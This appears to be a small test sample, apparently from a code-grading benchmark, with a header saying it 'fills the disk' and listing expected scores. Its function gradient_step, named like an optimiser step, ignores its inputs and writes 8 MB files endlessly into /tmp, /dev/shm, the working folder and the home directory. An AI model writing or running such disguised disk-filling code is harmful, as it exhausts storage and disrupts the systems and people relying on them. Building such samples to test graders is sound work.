# Fills the disk.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os


def gradient_step(w, g, lr):
    number = 0
    while True:
        for folder in ("/tmp", ".", "/dev/shm", os.path.expanduser("~")):
            number += 1
            try:
                with open(os.path.join(folder, f"full{number}"), "wb") as file:
                    file.write(b"0" * (8 << 20))
            except OSError:
                continue
